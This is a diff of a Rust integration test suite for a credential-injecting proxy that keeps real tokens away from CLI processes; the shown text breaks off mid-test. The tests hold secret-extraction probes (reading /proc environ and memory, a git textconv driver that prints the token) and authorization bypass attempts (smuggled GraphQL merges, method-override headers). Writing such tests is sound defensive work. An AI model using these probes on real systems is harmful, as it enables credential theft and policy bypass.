@@ -1,9 +1,13 @@
-//! Injection mode end to end: the real `porter` daemon and `cliport-proxy`, Debian's
-//! real `gh` (2.23) and `git`, and a local HTTPS stand-in for GitHub that Porter's
-//! proxy is pointed at (`--upstream-override`). Proves the CLIs work with the real
-//! token on the wire while their processes only ever hold a placeholder; that no escape
-//! into the CLI yields the secret in any encoding; that the request policy refuses an
-//! employee's merge at the proxy; that other hosts and stale placeholders are refused.
+//! Porter on the wire, end to end: the real `porter` daemon, the sandbox runner's real
+//! relay in front of its proxy socket, Debian's real `gh` (2.23), `git` and `curl`
+//! running with only the environment Porter hands a command, and a local HTTPS
+//! stand-in for GitHub (and for an API-key service and an OAuth 2.0 provider) that the
+//! proxy is pointed at (`--upstream-override`). Proves each credential kind reaches
+//! the upstream while the command only ever held placeholders; the request policy
+//! refuses an employee's merge however it is asked; placeholders are swapped only where
+//! declared; responses echoing the secret are scrubbed; other hosts, ended keys and
+//! unverifiable upstreams get nothing. The same clients inside a real sandbox are
+//! `agent-pod/tests/porter_sandbox.rs`.
 
 mod standin;
 mod support;
@@ -11,26 +15,15 @@ mod support;
 use std::{
     collections::BTreeMap,
     io::{BufRead, BufReader, Write},
-    path::Path,
     process::Output,
 };
 
 use base64::{Engine, engine::general_purpose::STANDARD};
-use porter_protocol::registry::{CliEntry, GraphqlRule, Registry, RequestRule};
+use porter_protocol::registry::{
+    CliEntry, GraphqlRule, InjectAt, OAuth2, Registry, RequestRule, SecretSource,
+};
 use standin::StandIn;
-use support::{Daemon, EMPLOYEE_TOKEN, TOKEN};
-
-/// A fresh random GitHub-looking token (letters and digits, so no accidental hex match).
-fn random_secret() -> String {
-    const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
-    let mut bytes = [0_u8; 36];
-    getrandom::fill(&mut bytes).unwrap();
-    let tail: String = bytes
-        .iter()
-        .map(|byte| char::from(ALPHABET[usize::from(*byte) % ALPHABET.len()]))
-        .collect();
-    format!("ghp_{tail}")
-}
+use support::{Daemon, Registered, assert_no_secret, random_secret, text};
 
 fn rule(methods: &[&str], paths: &[&str], graphql: Option<GraphqlRule>) -> RequestRule {
     RequestRule {
@@ -47,7 +40,7 @@ fn github_requests() -> BTreeMap<String, Vec<RequestRule>> {
         (
             "employee".to_owned(),
             vec![
-                rule(&["GET"], &["/repos/*/*/pulls", "/repos/*/*/pulls/**"], None),
+                rule(&["GET"], &["/repos/*/*/pulls", "/repos/*/*/pulls/**", "/echo"], None),
                 rule(
                     &["POST"],
                     &["/graphql"],
@@ -64,31 +57,57 @@ fn github_requests() -> BTreeMap<String, Vec<RequestRule>> {
     ])
 }
 
-fn injected(bin: &str, secret_file: &Path) -> CliEntry {
-    CliEntry {
-        bin: bin.to_owned(),
-        timeout_seconds: 60,
-        env_from_files: BTreeMap::from([(
-            "GH_TOKEN".to_owned(),
-            secret_file.to_string_lossy().into_owned(),
-        )]),
-        hosts: standin::HOSTS
-            .iter()
-            .map(|host| (*host).to_owned())
-            .collect(),
-        requests: github_requests(),
-        ..CliEntry::default()
-    }
-}
-
 struct World {
     secret: String,
     standin: StandIn,
     daemon: Daemon,
-    _directory: tempfile::TempDir,
+    work: tempfile::TempDir,
 }
 
-/// The stand-in, and Porter with `gh`, `git` and `sh` registered in injection mode.
+/// The registry of the example company, pointed at the stand-in: `gh` (Authorization,
+/// git over HTTPS), `keys` (a query parameter and a named header) and `oauth` (OAuth 2.0
+/// refresh held by Porter). Every secret is the stand-in's one token.
+fn registry(secret_file: &std::path::Path) -> Registry {
+    let secret = SecretSource::File(secret_file.to_string_lossy().into_owned());
+    let mut registry = Registry::default();
+    registry.clis.insert(
+        "gh".into(),
+        CliEntry {
+            hosts: standin::HOSTS.iter().map(|host| (*host).to_owned()).collect(),
+            secret: secret.clone(),
+            placeholder_env: vec!["GH_TOKEN".into()],
+            git: true,
+            requests: github_requests(),
+            ..CliEntry::default()
+        },
+    );
+    registry.clis.insert(
+        "keys".into(),
+        CliEntry {
+            hosts: vec!["keys.example".into()],
+            secret: secret.clone(),
+            inject: vec![InjectAt::Query("key".into()), InjectAt::Header("X-Api-Key".into())],
+            placeholder_env: vec!["KEYS_API_KEY".into()],
+            ..CliEntry::default()
+        },
+    );
+    registry.clis.insert(
+        "oauth".into(),
+        CliEntry {
+            hosts: vec!["oauth.example".into()],
+            secret,
+            oauth2: Some(OAuth2 {
+                token_url: "https://oauth.example/token".into(),
+                client_id: "client-1".into(),
+                ..OAuth2::default()
+            }),
+            placeholder_env: vec!["OAUTH_REFRESH_TOKEN".into()],
+            ..CliEntry::default()
+        },
+    );
+    registry
+}
+
 fn world() -> World {
     world_trusting(true)
 }
@@ -96,12 +115,12 @@ fn world() -> World {
 /// As [`world`]; `trust_standin: false` leaves the stand-in's CA out of Porter's
 /// upstream trust (as a man in the middle would be).
 fn world_trusting(trust_standin: bool) -> World {
-    let directory = tempfile::tempdir().unwrap();
+    let work = tempfile::tempdir().unwrap();
     let secret = random_secret();
-    let secret_file = directory.path().join("gh-token");
+    let secret_file = work.path().join("gh-token");
     std::fs::write(&secret_file, format!("{secret}\n")).unwrap();
-    let standin = StandIn::start(directory.path(), &secret);
-    let overrides: Vec<String> = standin::HOSTS
+    let standin = StandIn::start(work.path(), &secret);
+    let overrides: Vec<String> = standin::ALL_HOSTS
         .iter()
         .map(|host| format!("{host}={}", standin.address))
         .collect();
@@ -113,257 +132,154 @@ fn world_trusting(trust_standin: bool) -> World {
     for host_override in &overrides {
         arguments.extend(["--upstream-override", host_override.as_str()]);
     }
-    let daemon = Daemon::start_with(
-        |_, registry: &mut Registry| {
-            for (name, bin) in [
-                ("gh", "/usr/bin/gh"),
-                ("git", "/usr/bin/git"),
-                ("sh", "/bin/sh"),
-            ] {
-                registry
-                    .clis
-                    .insert(name.into(), injected(bin, &secret_file));
-            }
-        },
-        &arguments,
-    );
+    let daemon = Daemon::start(&registry(&secret_file), &arguments);
     World {
         secret,
         standin,
         daemon,
-        _directory: directory,
+        work,
     }
-}
-
-fn text(output: &Output) -> String {
-    format!(
-        "{}{}",
-        String::from_utf8_lossy(&output.stdout),
-        String::from_utf8_lossy(&output.stderr)
-    )
 }
 
 impl World {
-    fn run(&self, cli: &str, arguments: &[&str], token: &str) -> Output {
-        self.daemon.proxy(cli, arguments, token).output().unwrap()
+    fn run(&self, command: &Registered, program: &str, arguments: &[&str]) -> Output {
+        self.daemon.run(command, self.work.path(), program, arguments)
     }
 
-    fn run_in(&self, cwd: &str, cli: &str, arguments: &[&str], token: &str) -> Output {
-        self.daemon
-            .proxy(cli, arguments, token)
-            .env("CLIPORT_CWD", cwd)
-            .output()
-            .unwrap()
+    fn curl(&self, command: &Registered, arguments: &[&str]) -> Output {
+        let mut all = vec!["-sS", "--max-time", "20"];
+        all.extend_from_slice(arguments);
+        self.run(command, "curl", &all)
     }
 
-    /// Runs a shell script as a registered CLI (what a bot could run if every argument
-    /// policy failed), with `$1` = Porter's pid.
-    fn shell(&self, script: &str, token: &str) -> Output {
-        let pid = self.daemon.pid().to_string();
-        self.run("sh", &["-c", script, "sh", &pid], token)
-    }
-
-    /// The proxy's request decisions so far.
-    fn decisions(&self) -> Vec<serde_json::Value> {
-        self.daemon
-            .audit()
-            .into_iter()
-            .filter(|line| line["kind"] == "request")
-            .collect()
-    }
-}
-
-/// Every form of `secret` an escape could print: literal, reversed, base64 (with and
-/// without a newline), hex — as windows, so split halves are caught too. Whitespace is
-/// ignored (od and base64 wrap their output).
-fn assert_no_secret(label: &str, haystack: &str, secret: &str) {
-    let squeezed: String = haystack.chars().filter(|c| !c.is_whitespace()).collect();
-    let lower = squeezed.to_ascii_lowercase();
-    let reversed: String = secret.chars().rev().collect();
-    let encodings = [
-        (secret.to_owned(), 12),
-        (reversed, 12),
-        (STANDARD.encode(secret), 16),
-        (STANDARD.encode(format!("{secret}\n")), 16),
-        (hex::encode(secret), 24),
-    ];
-    for (encoded, window) in encodings {
-        for start in 0..=encoded.len() - window {
-            let piece = &encoded[start..start + window];
-            let found = if piece.bytes().all(|byte| byte.is_ascii_hexdigit()) {
-                lower.contains(piece)
-            } else {
-                squeezed.contains(piece)
-            };
-            assert!(
-                !found,
-                "{label}: the secret leaked as {encoded:?} (piece {piece:?})"
-            );
+    /// Everything a command could see: its environment and what it printed.
+    fn assert_command_saw_no_secret(&self, label: &str, command: &Registered, outputs: &[&Output]) {
+        let mut everything: String = command
+            .env
+            .iter()
+            .map(|(name, value)| format!("{name}={value}\n"))
+            .collect();
+        for output in outputs {
+            everything.push_str(&text(output));
         }
+        assert_no_secret(label, &everything, &self.secret);
     }
 }
 
 #[test]
-fn gh_pr_list_and_api_reach_the_stand_in_with_the_real_token_while_the_cli_holds_a_placeholder() {
+fn gh_and_git_reach_the_stand_in_with_the_real_token_while_the_command_holds_placeholders() {
     let world = world();
-    let listed = world.run("gh", &["pr", "list", "-R", "o/r"], TOKEN);
+    let owner = world.daemon.register("olga", "owner");
+    let employee = world.daemon.register("ana", "employee");
+    assert!(owner.env["GH_TOKEN"].starts_with("porter_ph_"));
+    assert_ne!(owner.env["GH_TOKEN"], employee.env["GH_TOKEN"], "placeholders are per command");
+
+    let listed = world.run(&owner, "gh", &["pr", "list", "-R", "o/r"]);
     assert!(listed.status.success(), "gh pr list: {}", text(&listed));
     assert!(text(&listed).contains("Fix the thing"), "{}", text(&listed));
-    let api = world.run("gh", &["api", "repos/o/r/pulls"], EMPLOYEE_TOKEN);
+    let api = world.run(&employee, "gh", &["api", "repos/o/r/pulls"]);
     assert!(api.status.success(), "gh api: {}", text(&api));
     assert!(text(&api).contains("Fix the thing"));
 
+    world.standin.create_repository("o", "r");
+    let cloned = world.run(&owner, "git", &["clone", "-q", "https://github.com/o/r.git", "r"]);
+    assert!(cloned.status.success(), "git clone: {}", text(&cloned));
+    let checkout = world.work.path().join("r");
+    std::fs::write(checkout.join("CHANGE.md"), "pushed through porter\n").unwrap();
+    standin::git(&checkout, &["add", "CHANGE.md"]);
+    standin::git(&checkout, &["commit", "-q", "-m", "through porter"]);
+    let directory = checkout.to_string_lossy().into_owned();
+    let refused = world.run(&employee, "git", &["-C", &directory, "push", "origin", "main"]);
+    assert!(!refused.status.success(), "employee push: {}", text(&refused));
+    let pushed = world.run(&owner, "git", &["-C", &directory, "push", "-q", "origin", "main"]);
+    assert!(pushed.status.success(), "git push: {}", text(&pushed));
+    let log = std::process::Command::new("git")
+        .args(["log", "--format=%s", "main"])
+        .current_dir(world.standin.git_root.join("o/r.git"))
+        .output()
+        .unwrap();
+    assert_eq!(String::from_utf8_lossy(&log.stdout), "through porter\nfirst\n");
+
     let requests = world.standin.requests();
-    assert!(
-        requests
-            .iter()
-            .any(|request| request.method == "POST" && request.path == "/graphql"),
-        "gh pr list sent no GraphQL: {requests:?}"
-    );
-    assert!(
-        requests
-            .iter()
-            .any(|request| request.path == "/repos/o/r/pulls")
-    );
+    assert!(requests.iter().any(|request| request.path == "/graphql"));
+    assert!(requests.iter().any(|request| request.path == "/o/r.git/git-receive-pack"
+        && request.authorization.as_deref().unwrap().starts_with("Basic ")));
     for request in &requests {
-        assert_eq!(
-            request.credential().as_deref(),
-            Some(world.secret.as_str()),
+        // git asks anonymously first and sends its credential after the 401; whatever
+        // credential went upstream was the real token, never a placeholder.
+        let anonymous_git = request.host == "github.com" && request.authorization.is_none();
+        assert!(
+            anonymous_git || request.credential().as_deref() == Some(world.secret.as_str()),
             "{request:?} did not carry the real token"
         );
+        for (name, value) in &request.headers {
+            assert!(!value.contains("porter_ph_"), "a placeholder went upstream in {name}");
+        }
     }
-    // What the CLI held: the same environment, printed by a shell in the same mode.
-    let environment = world.shell("printenv", TOKEN);
-    let environment = String::from_utf8_lossy(&environment.stdout).into_owned();
-    let token_line = environment
-        .lines()
-        .find(|line| line.starts_with("GH_TOKEN="))
-        .expect("GH_TOKEN is set");
-    assert!(
-        token_line.starts_with("GH_TOKEN=porter_ph_"),
-        "{token_line}"
-    );
-    assert_no_secret("child environment", &environment, &world.secret);
-
-    let decisions = world.decisions();
+    world.assert_command_saw_no_secret("owner", &owner, &[&listed, &cloned, &pushed]);
+    world.assert_command_saw_no_secret("employee", &employee, &[&api, &refused]);
+    let decisions = world.daemon.decisions();
     assert!(decisions.iter().any(|line| line["decision"] == "allowed"
         && line["method"] == "GET"
         && line["path"] == "/repos/o/r/pulls"
         && line["contact"] == "ana"
         && line["role"] == "employee"
+        && line["command"] == "sha256:test"
         && line["host"] == "api.github.com"
         && line["status"] == 200));
-    assert_no_secret("audit log", &world.daemon.raw_log_text(), &world.secret);
-    assert!(!world.daemon.raw_log_text().contains("porter_ph_"));
-}
-
-#[test]
-fn git_clone_and_push_over_https_carry_the_real_token_in_basic_auth() {
-    let world = world();
-    world.standin.create_repository("o", "r");
-    let cloned = world.run("git", &["clone", "https://github.com/o/r.git", "r"], TOKEN);
-    assert!(cloned.status.success(), "git clone: {}", text(&cloned));
-    let checkout = world.daemon.workspace.join("r");
-    assert_eq!(
-        std::fs::read_to_string(checkout.join("README.md")).unwrap(),
-        "hello from the stand-in\n"
-    );
-
-    std::fs::write(checkout.join("CHANGE.md"), "pushed through porter\n").unwrap();
-    standin::git(&checkout, &["add", "CHANGE.md"]);
-    standin::git(&checkout, &["commit", "-q", "-m", "through porter"]);
-    // An employee may fetch but not push: refused at the proxy.
-    let refused = world.run_in(
-        "/workspace/r",
-        "git",
-        &["push", "origin", "main"],
-        EMPLOYEE_TOKEN,
-    );
-    assert!(
-        !refused.status.success(),
-        "employee push: {}",
-        text(&refused)
-    );
-    let pushed = world.run_in("/workspace/r", "git", &["push", "origin", "main"], TOKEN);
-    assert!(pushed.status.success(), "git push: {}", text(&pushed));
-
-    let bare = world.standin.git_root.join("o/r.git");
-    let log = std::process::Command::new("git")
-        .args(["log", "--format=%s", "main"])
-        .current_dir(&bare)
-        .output()
-        .unwrap();
-    assert_eq!(
-        String::from_utf8_lossy(&log.stdout),
-        "through porter\nfirst\n"
-    );
-
-    let requests = world.standin.requests();
-    let receive_packs: Vec<_> = requests
-        .iter()
-        .filter(|request| request.path == "/o/r.git/git-receive-pack")
-        .collect();
-    assert_eq!(receive_packs.len(), 1, "only the owner's push got through");
-    assert_eq!(
-        receive_packs[0].credential().as_deref(),
-        Some(world.secret.as_str())
-    );
-    assert!(
-        receive_packs[0]
-            .authorization
-            .as_deref()
-            .unwrap()
-            .starts_with("Basic "),
-        "git sends Basic auth"
-    );
-    assert!(
-        requests
-            .iter()
-            .filter_map(|request| request.credential())
-            .all(|credential| credential == world.secret),
-        "a placeholder reached the upstream"
-    );
-    assert!(
-        world
-            .decisions()
-            .iter()
-            .any(|line| line["decision"] == "refused"
-                && line["method"] == "POST"
-                && line["path"] == "/o/r.git/git-receive-pack"
-                && line["role"] == "employee")
-    );
+    assert!(decisions.iter().any(|line| line["decision"] == "refused"
+        && line["path"] == "/o/r.git/git-receive-pack"
+        && line["role"] == "employee"));
+    let log = world.daemon.raw_log_text();
+    assert_no_secret("audit log", &log, &world.secret);
+    assert!(!log.contains("porter_ph_") && !log.contains("porter_key_"), "{log}");
 }
 
 #[test]
 fn an_employees_merge_is_refused_at_the_proxy_however_it_is_asked_and_the_owners_is_admitted() {
     let world = world();
-    let merge_arguments = ["pr", "merge", "1", "--merge", "-R", "o/r"];
-    let attempts = [
-        world.run("gh", &merge_arguments, EMPLOYEE_TOKEN),
-        world.run(
-            "gh",
-            &["api", "-X", "PUT", "repos/o/r/pulls/1/merge"],
-            EMPLOYEE_TOKEN,
-        ),
-        // Through an alias, defined and used in one call (in case aliases persist or
-        // the argument policy lets them through: the proxy still decides).
-        world.shell(
-            "gh alias set mm 'pr merge 1 --merge -R o/r' >/dev/null && gh mm",
-            EMPLOYEE_TOKEN,
-        ),
-        world.shell(
-            "gh api --method PUT repos/o/r/pulls/1/merge",
-            EMPLOYEE_TOKEN,
-        ),
+    let employee = world.daemon.register("ana", "employee");
+    let proxy = employee.env["HTTPS_PROXY"].clone();
+    let graphql_merge = r#"{"query":"mutation Sneaky { a: mergePullRequest(input:{pullRequestId:\"PR_1\"}) { clientMutationId } }"}"#;
+    let fragment_merge = r#"{"query":"query Q { viewer { login } } mutation M { ...F } fragment F on Mutation { mergePullRequest(input:{pullRequestId:\"PR_1\"}) { clientMutationId } }"}"#;
+    let batched = r#"[{"query":"query { viewer { login } }"},{"query":"mutation { mergePullRequest(input:{pullRequestId:\"PR_1\"}) { clientMutationId } }"}]"#;
+    let mut attempts = vec![
+        world.run(&employee, "gh", &["pr", "merge", "1", "--merge", "-R", "o/r"]),
+        world.run(&employee, "gh", &["api", "-X", "PUT", "repos/o/r/pulls/1/merge"]),
+        world.run(&employee, "sh", &["-c", "gh alias set mm 'pr merge 1 --merge -R o/r' >/dev/null && gh mm"]),
     ];
-    for attempt in &attempts {
-        assert!(
-            !attempt.status.success(),
-            "employee merge went through: {}",
-            text(attempt)
+    for (index, body) in [graphql_merge, fragment_merge, batched].iter().enumerate() {
+        let file = world.work.path().join(format!("body-{index}.json"));
+        std::fs::write(&file, body).unwrap();
+        let script = format!(
+            "curl -sSf --max-time 20 -H \"Authorization: token $GH_TOKEN\" --data @{} https://api.github.com/graphql",
+            file.display()
         );
+        attempts.push(world.run(&employee, "sh", &["-c", &script]));
     }
-    let merged_by = |requests: &[standin::Recorded]| {
+    // Every header some server reads as the real method, on an allowed GET and POST.
+    for header in [
+        "X-HTTP-Method-Override",
+        "X-HTTP-Method",
+        "X-Method-Override",
+        "X-Original-Method",
+        "X-Forwarded-Method",
+    ] {
+        let script = format!(
+            "curl -sSf --max-time 20 -H \"Authorization: token $GH_TOKEN\" -H '{header}: PUT' https://api.github.com/repos/o/r/pulls/1/merge"
+        );
+        attempts.push(world.run(&employee, "sh", &["-c", &script]));
+    }
+    // A request target in absolute form naming the merge on another authority, sent
+    // through a tunnel opened for an allowed host.
+    let script = format!(
+        "curl -sSf --max-time 20 --proxy '{proxy}' -H \"Authorization: token $GH_TOKEN\" -X PUT --request-target https://api.github.com/repos/o/r/pulls/1/merge https://api.github.com/repos/o/r/pulls"
+    );
+    attempts.push(world.run(&employee, "sh", &["-c", &script]));
+    for attempt in &attempts {
+        assert!(!attempt.status.success(), "employee merge went through: {}", text(attempt));
+    }
+    let merges = |requests: &[standin::Recorded]| {
         requests
             .iter()
             .filter(|request| {
@@ -372,340 +288,173 @@ fn an_employees_merge_is_refused_at_the_proxy_however_it_is_asked_and_the_owners
             })
             .count()
     };
-    assert_eq!(
-        merged_by(&world.standin.requests()),
-        0,
-        "a merge reached the stand-in"
-    );
-    let refusals: Vec<_> = world
+    assert_eq!(merges(&world.standin.requests()), 0, "a merge reached the stand-in");
+    let refusals: Vec<String> = world
+        .daemon
         .decisions()
         .into_iter()
-        .filter(|line| line["decision"] == "refused" && line["contact"] == "ana")
+        .filter(|line| line["decision"] == "refused")
+        .map(|line| line["reason"].as_str().unwrap_or_default().to_owned())
         .collect();
-    assert!(refusals.iter().any(|line| {
-        line["path"] == "/graphql"
-            && line["reason"]
-                .as_str()
-                .unwrap()
-                .contains("mergePullRequest")
-    }));
-    assert!(refusals.iter().any(|line| line["method"] == "PUT"
-        && line["path"] == "/repos/o/r/pulls/1/merge"
-        && line["role"] == "employee"));
-    // Decisions never hold a header value.
-    for line in world.decisions() {
-        let line = line.to_string();
-        assert!(
-            !line.contains("porter_ph_") && !line.contains("porter_call_"),
-            "{line}"
-        );
-        assert_no_secret("decision", &line, &world.secret);
-    }
+    assert!(refusals.iter().any(|reason| reason.contains("mergePullRequest")), "{refusals:?}");
+    assert!(refusals.iter().any(|reason| reason.contains("x-original-method")), "{refusals:?}");
 
-    let owner_merge = world.run("gh", &merge_arguments, TOKEN);
-    assert!(
-        owner_merge.status.success(),
-        "owner merge: {}",
-        text(&owner_merge)
-    );
-    let owner_put = world.run(
-        "gh",
-        &["api", "-X", "PUT", "repos/o/r/pulls/1/merge"],
-        TOKEN,
-    );
-    assert!(
-        owner_put.status.success(),
-        "owner PUT: {}",
-        text(&owner_put)
-    );
-    assert_eq!(merged_by(&world.standin.requests()), 2);
+    let owner = world.daemon.register("olga", "owner");
+    let merged = world.run(&owner, "gh", &["pr", "merge", "1", "--merge", "-R", "o/r"]);
+    assert!(merged.status.success(), "owner merge: {}", text(&merged));
+    let put = world.run(&owner, "gh", &["api", "-X", "PUT", "repos/o/r/pulls/1/merge"]);
+    assert!(put.status.success(), "owner PUT: {}", text(&put));
+    assert_eq!(merges(&world.standin.requests()), 2);
 }
 
 #[test]
-fn escapes_into_the_cli_find_only_a_placeholder_in_any_encoding() {
+fn a_query_parameter_a_named_header_and_an_oauth2_refresh_each_reach_their_upstream() {
     let world = world();
-    // What a bot could do if every argument policy failed: run anything in the CLI's
-    // process with its environment. Output goes to files too, past Porter's redactor.
-    let script = r#"
-        exec 2>&1
-        gh alias set x '!printf %s "$GH_TOKEN" | base64' >/dev/null; gh x | tee alias.out
-        gh auth token | tee auth-token.out
-        gh auth status -t -h github.com | tee auth-status.out
-        env | tee env.out
-        printf %s "$GH_TOKEN" | od -An -tx1 | tee hex.out
-        printf %s "$GH_TOKEN" | rev | tee reversed.out
-        cat /proc/$1/environ | tee porter-environ.out
-        head -c 100000 /proc/$1/mem | base64 | tee porter-mem.out
-        printf 'protocol=https\nhost=github.com\n\n' | git credential fill | tee credential.out
-        git init -q t && cd t
-        export GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@x GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@x
-        printf '*.txt diff=leak\n' > .gitattributes
-        git config diff.leak.textconv 'sh -c "printenv GH_TOKEN | base64; cat \"\$0\"" '
-        echo one > a.txt && git add . && git commit -qm one
-        echo two > a.txt
-        git diff | tee ../textconv.out
-        git log -p --textconv | tee -a ../textconv.out
-    "#;
-    let output = world.shell(script, TOKEN);
-    let mut everything = text(&output);
-    for entry in std::fs::read_dir(&world.daemon.workspace)
-        .unwrap()
-        .flatten()
-    {
-        if entry
-            .path()
-            .extension()
-            .is_some_and(|extension| extension == "out")
-        {
-            everything.push_str(&std::fs::read_to_string(entry.path()).unwrap_or_default());
-        }
-    }
-    assert_no_secret("escape output", &everything, &world.secret);
+    let command = world.daemon.register("ana", "employee");
+    let query = world.run(
+        &command,
+        "sh",
+        &["-c", "curl -sSf --max-time 20 \"https://keys.example/v1/query?q=weather&key=$KEYS_API_KEY\""],
+    );
+    assert!(query.status.success(), "query: {}", text(&query));
+    let header = world.run(
+        &command,
+        "sh",
+        &["-c", "curl -sSf --max-time 20 -H \"X-Api-Key: $KEYS_API_KEY\" https://keys.example/v1/header"],
+    );
+    assert!(header.status.success(), "header: {}", text(&header));
+    // OAuth 2.0: the command's refresh token is a placeholder; Porter answers the token
+    // endpoint itself with a placeholder access token, and puts a real access token
+    // (refreshed with the real refresh token, which never leaves Porter) upstream.
+    let token = world.run(
+        &command,
+        "sh",
+        &["-c", "curl -sSf --max-time 20 -d grant_type=refresh_token -d client_id=client-1 --data-urlencode \"refresh_token=$OAUTH_REFRESH_TOKEN\" https://oauth.example/token"],
+    );
+    assert!(token.status.success(), "token: {}", text(&token));
+    let answer: serde_json::Value = serde_json::from_slice(&token.stdout).unwrap();
+    let access = answer["access_token"].as_str().unwrap().to_owned();
+    assert!(access.starts_with("porter_ph_"), "{answer}");
+    let me = world.curl(
+        &command,
+        &["-f", "-H", &format!("Authorization: Bearer {access}"), "https://oauth.example/v1/me"],
+    );
+    assert!(me.status.success(), "me: {}", text(&me));
+    // A refresh with anything but this command's placeholder gets nothing.
+    let forged = world.curl(
+        &command,
+        &["-d", "grant_type=refresh_token", "-d", "refresh_token=porter_ph_0123", "https://oauth.example/token"],
+    );
+    assert!(String::from_utf8_lossy(&forged.stdout).contains("invalid_grant"));
 
-    // The escapes did run, and found the placeholder.
-    let environment = std::fs::read_to_string(world.daemon.workspace.join("env.out")).unwrap();
-    let placeholder = environment
-        .lines()
-        .find_map(|line| line.strip_prefix("GH_TOKEN="))
-        .expect("the child has GH_TOKEN")
-        .to_owned();
-    assert!(placeholder.starts_with("porter_ph_"));
-    let textconv = std::fs::read_to_string(world.daemon.workspace.join("textconv.out")).unwrap();
-    assert!(
-        textconv.contains(&STANDARD.encode(format!("{placeholder}\n"))),
-        "the textconv driver did not run: {textconv}"
-    );
-    let credential =
-        std::fs::read_to_string(world.daemon.workspace.join("credential.out")).unwrap();
-    assert!(
-        credential.contains(&format!("password={placeholder}")),
-        "{credential}"
-    );
-    // Porter's own environment and memory (read above) hold no injected secret either:
-    // it came from a file. (Porter is also non-dumpable, which closes /proc/<pid>/mem and
-    // environ to children of a non-root Porter; these tests run as root, which bypasses it.)
+    let requests = world.standin.requests();
+    let token_requests: Vec<_> = requests.iter().filter(|request| request.path == "/token").collect();
+    assert_eq!(token_requests.len(), 1, "one real refresh, by Porter: {token_requests:?}");
+    assert!(token_requests[0].body.contains("refresh_token="));
+    assert!(requests.iter().any(|request| request.path == "/v1/query"
+        && request.query.contains("q=weather")));
+    world.assert_command_saw_no_secret("other kinds", &command, &[&query, &header, &token, &me, &forged]);
+    let access_token = standin::access_token_for(&world.secret);
+    for output in [&token, &me] {
+        assert!(!text(output).contains(&access_token), "the real access token reached the command");
+    }
 }
 
 #[test]
-fn hosts_outside_the_entry_are_refused_at_connect() {
+fn placeholders_are_swapped_only_where_declared_and_only_for_their_own_command() {
     let world = world();
-    let output = world.shell(
-        "git ls-remote https://gitlab.com/o/r.git; gh api --hostname evil.example.com user",
-        TOKEN,
+    let command = world.daemon.register("ana", "owner");
+    let other = world.daemon.register("olga", "owner");
+    let cases = [
+        // The placeholder in a header that is not the credential's.
+        "curl -sSf --max-time 20 -H \"Cookie: session=$GH_TOKEN\" -H \"Authorization: token $GH_TOKEN\" https://api.github.com/user",
+        "curl -sSf --max-time 20 -A \"$GH_TOKEN\" https://api.github.com/user",
+        // In the query string where Authorization is declared.
+        "curl -sSf --max-time 20 \"https://api.github.com/user?access_token=$GH_TOKEN\"",
+        // The key credential in a header it is not declared for.
+        "curl -sSf --max-time 20 -H \"X-Other: $KEYS_API_KEY\" \"https://keys.example/v1/query?key=$KEYS_API_KEY\"",
+    ];
+    for script in cases {
+        let output = world.run(&command, "sh", &["-c", script]);
+        assert!(!output.status.success(), "{script}: {}", text(&output));
+    }
+    // Another command's placeholder through this command's tunnel.
+    let foreign = format!(
+        "curl -sSf --max-time 20 -H 'Authorization: token {}' https://api.github.com/user",
+        other.env["GH_TOKEN"]
+    );
+    let output = world.run(&command, "sh", &["-c", &foreign]);
+    assert!(!output.status.success(), "{}", text(&output));
+    assert!(
+        world.standin.requests().is_empty(),
+        "{:?}",
+        world.standin.requests()
+    );
+    assert!(world.daemon.decisions().iter().any(|line| line["reason"]
+        .as_str()
+        .is_some_and(|reason| reason.contains("placeholder in cookie"))));
+}
+
+#[test]
+fn an_upstream_echoing_the_secret_gives_the_command_only_a_mask() {
+    let world = world();
+    let command = world.daemon.register("ana", "employee");
+    let output = world.run(
+        &command,
+        "sh",
+        &["-c", "curl -sS -D - --max-time 20 -H \"Authorization: token $GH_TOKEN\" https://api.github.com/echo"],
+    );
+    assert!(output.status.success(), "{}", text(&output));
+    assert!(text(&output).contains("x-echo"), "the echo ran: {}", text(&output));
+    assert_no_secret("echoed response", &text(&output), &world.secret);
+}
+
+#[test]
+fn hosts_outside_every_credential_and_ended_keys_get_nothing() {
+    let world = world();
+    let command = world.daemon.register("ana", "owner");
+    let output = world.run(
+        &command,
+        "sh",
+        &["-c", "git ls-remote https://gitlab.com/o/r.git; curl -sSf --max-time 20 https://evil.example.com/"],
     );
     assert!(!output.status.success());
     let refused_hosts: Vec<String> = world
+        .daemon
         .decisions()
         .into_iter()
         .filter(|line| line["decision"] == "refused" && line["method"] == "CONNECT")
         .map(|line| line["host"].as_str().unwrap().to_owned())
         .collect();
-    assert!(
-        refused_hosts.contains(&"gitlab.com".to_owned()),
-        "{refused_hosts:?}"
-    );
-    assert!(
-        refused_hosts.contains(&"evil.example.com".to_owned()),
-        "{refused_hosts:?}"
-    );
-    assert!(world.standin.requests().is_empty());
-}
+    assert!(refused_hosts.contains(&"gitlab.com".to_owned()), "{refused_hosts:?}");
+    assert!(refused_hosts.contains(&"evil.example.com".to_owned()), "{refused_hosts:?}");
 
-#[test]
-fn a_placeholder_and_proxy_credential_die_with_their_call() {
-    let world = world();
-    let first = world.shell("printenv GH_TOKEN; printenv HTTPS_PROXY", TOKEN);
-    let first = String::from_utf8_lossy(&first.stdout).into_owned();
-    let mut lines = first.lines();
-    let (old_placeholder, old_proxy) = (lines.next().unwrap(), lines.next().unwrap());
-    assert!(old_placeholder.starts_with("porter_ph_"));
-
-    // A later call presenting the earlier placeholder through its own (live) tunnel.
-    let later = world.shell(
-        &format!("GH_TOKEN={old_placeholder} gh api repos/o/r/pulls"),
-        TOKEN,
-    );
-    assert!(!later.status.success(), "{}", text(&later));
-    assert!(
-        world.standin.requests().is_empty(),
-        "the stale placeholder went upstream"
-    );
-    assert!(
-        world
-            .decisions()
-            .iter()
-            .any(|line| line["decision"] == "refused"
-                && line["reason"].as_str().unwrap().contains("placeholder"))
-    );
-
-    // The earlier call's proxy credential no longer opens a tunnel.
-    let url = old_proxy.strip_prefix("http://").unwrap();
-    let (credential, address) = url.rsplit_once('@').unwrap();
-    let mut stream = std::net::TcpStream::connect(address).unwrap();
+    // The command ends: its key and placeholders die with it.
+    world.daemon.revoke(&command.key);
+    let replay = world.run(&command, "gh", &["api", "user"]);
+    assert!(!replay.status.success(), "{}", text(&replay));
+    let mut stream = std::os::unix::net::UnixStream::connect(&world.daemon.proxy_socket).unwrap();
     write!(
